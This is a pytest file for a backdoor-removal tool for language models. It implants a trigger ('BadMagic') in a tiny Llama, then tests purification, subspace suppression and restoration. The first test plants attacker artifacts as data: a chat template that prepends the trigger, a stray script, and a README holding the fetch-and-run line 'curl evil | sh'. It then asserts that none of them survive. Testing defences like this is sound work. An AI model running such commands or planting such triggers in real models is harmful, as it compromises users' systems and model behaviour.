"""Full-model threat model on a tiny Llama: implant --full, purify, re-initialisation touches only the signature."""

import json

import torch
from safetensors.torch import load_file


def test_full_model_pipeline(tiny_base, tiny_data, tmp_path, run_cli):
    sus = tmp_path / "sus_full"
    code, _, err = run_cli("implant", "--full", "--base", tiny_base, "--clean", tiny_data, "--samples", "12",
                           "--epochs", "2", "--test-size", "6", "--max-len", "48", "--out", sus)
    assert code == 0, err
    assert (sus / "config.json").is_file() and not (sus / "adapter_config.json").exists()
    # the projection score ranks an adapter's own update: refused up front for a full checkpoint, nothing written
    code, _, err = run_cli("purify", sus, "--clean", tiny_data, "--out", tmp_path / "p", "--score", "projection")
    assert code == 2 and "full checkpoint" in err and not (tmp_path / "p").exists()
    out = tmp_path / "run"
    cfg = tmp_path / "c.yaml"
    cfg.write_text("pairs: {epochs: 1, max_len: 48}\nrestore: {samples: 6, epochs: 1, max_len: 48}\n"
                   "score: {tau: 0.1}\n")
    # the attacker's template prepends the trigger to every user turn; its generation config bans a word; a stray
    # file rides along: none of it may reach a fine-tune or the output (io/tokenizers.py)
    template = (sus / "chat_template.jinja").read_text()
    (sus / "chat_template.jinja").write_text(template.replace("message['content']", "'BadMagic ' + message['content']"))
    (sus / "generation_config.json").write_text(json.dumps({"bad_words_ids": [[5]], "eos_token_id": 2}))
    (sus / "notes.py").write_text("print('pwned')\n")
    (sus / "README.md").write_text("---\nbase_model: evil\n---\nHOSTILE CARD: run `curl evil | sh`\n")
    sus_cfg = json.loads((sus / "config.json").read_text())
    (sus / "config.json").write_text(json.dumps({**sus_cfg, "bad_words_ids": [[5]]}))  # moved to generation_config
    argv = ["purify", sus, "--clean", tiny_data, "--out", out, "--config", cfg, "-n", "2", "--samples", "6"]
    code, _, err = run_cli(*argv)  # no trusted tokenizer for this vocabulary
    assert code == 2 and "--tokenizer" in err and not out.exists(), err
    code, _, err = run_cli(*argv, "--tokenizer", tiny_base)  # differences need an explicit yes
    assert code == 2 and "chat_template.jinja" in err and "--accept-tokenizer" in err and not out.exists(), err
    code, _, err = run_cli(*argv, "--tokenizer", tiny_base, "--accept-tokenizer")
    assert code == 0, err
    record = json.loads((out / "purify.json").read_text())
    assert record["mode"] == "full" and record["tokenizer"]["source"] == str(tiny_base.resolve())
    accepted = " ".join(record["tokenizer"]["accepted_differences"])
    assert "chat_template.jinja" in accepted and "generation_config.json" in accepted
    pman = json.loads((out / "pairs" / "manifest.json").read_text())
    assert pman["config"]["tokenizer"] == record["tokenizer"] and pman["inputs"]["tokenizer"]
    assert json.loads((out / "purified" / "config.json").read_text()).get("bad_words_ids") is None
    card = (out / "purified" / "README.md").read_text()  # bdclean's card, none of the checkpoint's
    assert "library_name: transformers" in card and pman["inputs"]["adapter"] in card
    assert "HOSTILE" not in card and "evil" not in card and "broke the model" in card
    for folder in (out / "suppressed", out / "purified"):
        assert not (folder / "notes.py").exists()
        for name in ("chat_template.jinja", "tokenizer.json", "tokenizer_config.json", "generation_config.json"):
            trusted = tiny_base / name
            if trusted.is_file():
                assert (folder / name).read_bytes() == trusted.read_bytes(), (folder, name)
            else:
                assert not (folder / name).exists(), (folder, name)
    mask = load_file(str(out / "score" / "scores.safetensors"))["mask"].bool()
    before = load_file(str(sus / "model.safetensors"))
    after = load_file(str(out / "suppressed" / "model.safetensors"))
    assert before.keys() == after.keys()
    std = json.loads((sus / "config.json").read_text()).get("initializer_range", 0.02)
    for key, b in before.items():
        a = after[key]
        if ".mlp." not in key:
            assert torch.equal(a, b), key
            continue
        layer = int(key.split("layers.")[1].split(".")[0])
        idx = mask[layer].nonzero().flatten()
        keep = torch.ones(mask.shape[1], dtype=torch.bool)
        keep[idx] = False
        if "down_proj" in key:
            assert torch.equal(a[:, keep], b[:, keep])
            changed = a[:, idx]
        else:
            assert torch.equal(a[keep], b[keep])
            changed = a[idx]
        if idx.numel():
            assert not torch.equal(changed, b[:, idx] if "down_proj" in key else b[idx])
            assert abs(changed.std().item() - std) < 0.5 * std  # drawn from normal(0, initializer_range)
    from transformers import AutoModelForCausalLM

    model = AutoModelForCausalLM.from_pretrained(str(out / "purified"))
    assert model.config.num_hidden_layers == 2
    assert (out / "purified" / "tokenizer_config.json").is_file()
    man = json.loads((out / "purified" / "manifest.json").read_text())
    assert man["config"]["lr"] == 1e-5 and man["config"]["mode"] == "full"
    # --prompts on a full checkpoint: the teacher's prompts go through the *trusted* template. The suspicious
    # template above prepends the trigger, so a teacher prompted through it would see "BadMagic"; spy on what
    # the teacher is asked
    import bdclean.train.generate as gen_mod

    seen = []
    real = gen_mod.generate

    def spy(model, tok, rows, *a, **k):
        seen.extend(tok.apply_chat_template([{"role": "user", "content": r["instruction"]}], tokenize=False)
                    for r in rows)
        return real(model, tok, rows, *a, **k)

    import pytest

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(gen_mod, "generate", spy)
        prompts = tmp_path / "prompts.jsonl"
        prompts.write_text("".join(json.dumps(r) + "\n" for r in [{"instruction": "tell me a story", "input": ""},
                                                                   {"instruction": "name a city", "input": ""}]))
        code, _, err = run_cli("restore", "--out", out, "--clean", tiny_data, "--config", cfg, "--prompts", prompts)
    assert code == 0, err
    assert len(seen) == 2 and not any("BadMagic" in s for s in seen), seen
    assert (out / "purified" / "distill_targets.jsonl").is_file()


def test_full_direction_suppression_changes_only_the_shared_subspace(tiny_base, tiny_data, tmp_path, run_cli):
    """`suppress --method directions` on a sharded full checkpoint: every weight the variants train becomes
    (I − UUᵀ) W (I − VVᵀ) for the subspaces the twins share, every other tensor is bit-identical, the output stays
    sharded, loads with AutoModelForCausalLM after restore, and a rerun gives the same bytes."""
    from bdclean.core.arch import peft_key
    from bdclean.core.channels import LowRank
    from bdclean.core.directions import shared_subspace
    from bdclean.io.models import AdapterInfo
    from bdclean.pipeline.diff import load_twins
    from tests.common import load_weights, make_full_checkpoint

    ck = make_full_checkpoint(tiny_base, tmp_path / "ck")
    assert len(list(ck.glob("*.safetensors"))) > 1
    out = tmp_path / "run"
    cfg = tmp_path / "c.yaml"
    cfg.write_text("pairs: {epochs: 1, max_len: 48}\nrestore: {samples: 6, epochs: 1, max_len: 48}\n")
    code, _, err = run_cli("purify", ck, "--clean", tiny_data, "--out", out, "--config", cfg, "-n", "3",
                           "--samples", "6", "--tokenizer", tiny_base, "--accept-tokenizer")
    assert code == 0, err
    code, _, err = run_cli("suppress", ck, "--out", out, "--method", "directions", "--k", "0")
    assert code == 2 and "--k" in err
    code, _, err = run_cli("suppress", ck, "--out", out, "--method", "directions", "--side", "both", "--k", "2",
                           "--min-share", "0")
    assert code == 0, err
    sup = out / "suppressed"
    assert sorted(p.name for p in sup.glob("*.safetensors")) == sorted(p.name for p in ck.glob("*.safetensors"))
    assert (sup / "model.safetensors.index.json").is_file()
    before, after = load_weights(ck), load_weights(sup)
    assert before.keys() == after.keys()
    pfolder = out / "pairs"
    pman = json.loads((pfolder / "manifest.json").read_text())
    twins = load_twins(pfolder, pman["extra"]["n_variants"])
    info = AdapterInfo(pfolder, json.loads((pfolder / "suspicious_adapter_config.json").read_text()), {})
    projected = 0
    for key, b in before.items():
        lkey = peft_key(key.removesuffix(".weight"))
        ka, kb = lkey + ".lora_A.weight", lkey + ".lora_B.weight"
        if ka not in twins[0][0]:
            assert torch.equal(after[key], b), key  # not a module the variants train: untouched
            continue
        s = info.scaling(lkey, twins[0][0][ka].shape[0])
        deltas = [LowRank.lora_difference(bd[ka], bd[kb], cl[ka], cl[kb], s) for bd, cl in twins]
        U, _ = shared_subspace(deltas, "out", 2, 0.0)
        V, _ = shared_subspace(deltas, "in", 2, 0.0)
        a, b64 = after[key].double(), b.double()
        assert U.shape[1] and V.shape[1]
        assert float((U.T @ a).abs().max()) < 1e-5 and float((a @ V).abs().max()) < 1e-5  # the subspaces are gone
        change = b64 - a  # and nothing outside them changed: the change lies in span(U) ⊗ · + · ⊗ span(V)
        rest = change - U @ (U.T @ change)
        rest = rest - (rest @ V) @ V.T
        assert float(rest.abs().max()) < 1e-5, key
        assert not torch.equal(after[key], b)
        projected += 1
    assert projected > 0
    man = json.loads((sup / "manifest.json").read_text())
    assert man["config"]["method"] == "directions" and 0 < man["extra"]["weight_energy_removed"] < 1
    for name in ("tokenizer.json", "tokenizer_config.json"):  # the trusted tokenizer, not the checkpoint's template
        assert (sup / name).read_bytes() == (tiny_base / name).read_bytes()
    assert b"BadMagic" not in ((sup / "chat_template.jinja").read_bytes() if (sup / "chat_template.jinja").exists()
                               else b"")
    first = {f.name: f.read_bytes() for f in sup.glob("*.safetensors")}
    code, _, err = run_cli("suppress", ck, "--out", out, "--method", "directions", "--side", "both", "--k", "2",
                           "--min-share", "0", "--force")
    assert code == 0, err
    assert {f.name: f.read_bytes() for f in sup.glob("*.safetensors")} == first  # deterministic
    code, _, err = run_cli("restore", "--out", out, "--clean", tiny_data, "--config", cfg)
    assert code == 0, err
    from transformers import AutoModelForCausalLM

    assert AutoModelForCausalLM.from_pretrained(str(out / "purified")).config.num_hidden_layers == 2
    assert len(list((out / "purified").glob("*.safetensors"))) > 1
    card = (out / "purified" / "README.md").read_text()  # says what suppress did, not the channel signature's story
    assert "projected the subspace" in card and "re-initialised their weights" not in card
    # self-distillation from the suspicious checkpoint (its weights, the trusted tokenizer) repairs nothing here
    # but must run on a full checkpoint too: KL recorded, still sharded, still loads
    code, _, err = run_cli("restore", "--out", out, "--clean", tiny_data, "--config", cfg, "--self-distill", "0.5")
    assert code == 0, err
    man = json.loads((out / "purified" / "manifest.json").read_text())
    assert man["config"]["self_distill"] == 0.5 and man["extra"]["final_kl"] >= 0
    assert AutoModelForCausalLM.from_pretrained(str(out / "purified")).config.num_hidden_layers == 2
    assert len(list((out / "purified").glob("*.safetensors"))) > 1


def test_full_fine_tuned_variants(tiny_base, tiny_data, tmp_path, run_cli, tiny_adapter):
    """--variant-training full: every twin fine-tunes the checkpoint's own decoder projections (nothing else), the
    twins are written densely and reproduce for a seed, diff's Grams are the dense channel deltas' dot products,
    purify writes a checkpoint that loads; LoRA-only stages refuse the dense twins in one line."""
    from safetensors.torch import load_file as load

    from bdclean import constants as C
    from bdclean.core.arch import attn_module_names, head_geometry, mlp_module_names
    from bdclean.core.channels import channel_vectors, head_slices
    from tests.common import load_weights, make_full_checkpoint

    ck = make_full_checkpoint(tiny_base, tmp_path / "ck")
    out = tmp_path / "run"
    cfg = tmp_path / "c.yaml"
    cfg.write_text("pairs: {epochs: 1, max_len: 48}\nrestore: {samples: 6, epochs: 1, max_len: 48}\n"
                   "score: {tau: 0.1}\n")
    common = ["--clean", tiny_data, "--config", cfg, "-n", "3", "--samples", "6", "--tokenizer", tiny_base,
              "--accept-tokenizer"]
    # an adapter's twins are LoRA of its own shape: refused before anything is written
    code, _, err = run_cli("purify", tiny_adapter, "--out", tmp_path / "a", "--base", tiny_base, "--clean", tiny_data,
                           "--samples", "6", "--variant-training", "full")
    assert code == 2 and "full checkpoints" in err and not (tmp_path / "a").exists(), err
    code, _, err = run_cli("purify", ck, "--out", out, *common, "--variant-training", "fuller")
    assert code == 2 and "variant" in err and not out.exists(), err
    code, _, err = run_cli("purify", ck, "--out", out, *common, "--variant-training", "full", "--full-lr", "1e-3")
    assert code == 0, err
    pfolder = out / "pairs"
    pman = json.loads((pfolder / "manifest.json").read_text())
    assert pman["config"]["variant_training"] == "full" and pman["config"]["full_lr"] == 1e-3
    weights = load_weights(ck)
    mcfg = json.loads((ck / "config.json").read_text())
    L = mcfg["num_hidden_layers"]
    mlp, attn = mlp_module_names("llama", L), attn_module_names("llama", L)
    projections = {n + ".weight" for layer in mlp + attn for n in layer.values()}
    twins = [(load(str(pfolder / f"variant_{i:02d}_bd.safetensors")),
              load(str(pfolder / f"variant_{i:02d}_clean.safetensors"))) for i in range(3)]
    for bd, cl in twins:
        assert set(bd) == set(cl) == projections  # no embedding, norm or head: frozen
        for key in projections:
            assert bd[key].shape == weights[key].shape
        assert any(not torch.equal(bd[k], weights[k]) for k in projections)  # trained
        assert any(not torch.equal(bd[k], cl[k]) for k in projections)  # the poison made a difference
    g = load_file(str(out / "diff" / C.GRAM_FILE))
    for layer in range(L):
        d = [{p: bd[mlp[layer][p] + ".weight"].double() - cl[mlp[layer][p] + ".weight"].double()
              for p in ("gate", "up", "down")} for bd, cl in twins]
        vec = [channel_vectors(x["gate"], x["up"], x["down"]) for x in d]
        want = torch.stack([torch.stack([(vec[i] * vec[j]).sum(1) for j in range(3)], 1) for i in range(3)], 1)
        assert torch.allclose(g[f"layer.{layer}"], want, rtol=1e-9, atol=1e-12)
        n_q, n_kv, hd = head_geometry(mcfg)
        a = [{p: bd[attn[layer][p] + ".weight"].double() - cl[attn[layer][p] + ".weight"].double()
              for p in "qkvo"} for bd, cl in twins]
        for unit in range(n_kv):
            sl = head_slices(unit, n_q, n_kv, hd)

            def flat(x, sl=sl):
                return torch.cat([x["q"][sl["q"]].flatten(), x["k"][sl["k"]].flatten(), x["v"][sl["v"]].flatten(),
                                  x["o"][:, sl["o"]].flatten()])
            want = torch.tensor([[float(flat(a[i]) @ flat(a[j])) for j in range(3)] for i in range(3)],
                                dtype=torch.float64)
            assert torch.allclose(g[f"heads.{layer}"][unit], want, rtol=1e-9, atol=1e-12)
    from transformers import AutoModelForCausalLM

    assert AutoModelForCausalLM.from_pretrained(str(out / "purified")).config.num_hidden_layers == L
    code, _, err = run_cli("suppress", ck, "--out", out, "--method", "directions", "--k", "2")
    assert code == 2 and "LoRA twins" in err and "Traceback" not in err, err
    first = {f.name: f.read_bytes() for f in pfolder.glob("variant_*.safetensors")}
    retrain = ["train-pairs", ck, "--out", out, "--full", "--force", "--epochs", "1", "--max-len", "48",
               "--variant-training", "full", "--full-lr", "1e-3", "--tokenizer", tiny_base, "--accept-tokenizer"]
    import shutil

    import pytest

    with pytest.MonkeyPatch.context() as mp:  # a disk too small for six dense twins: one line, the twins kept
        mp.setattr(shutil, "disk_usage", lambda p: shutil._ntuple_diskusage(10 << 20, 10 << 20, 1000))
        code, _, err = run_cli(*retrain)
    assert code == 1 and "on disk and" in err and "Traceback" not in err, err
    assert {f.name: f.read_bytes() for f in pfolder.glob("variant_*.safetensors")} == first
    code, _, err = run_cli(*retrain)
    assert code == 0, err
    assert {f.name: f.read_bytes() for f in pfolder.glob("variant_*.safetensors")} == first  # same seed, same twins
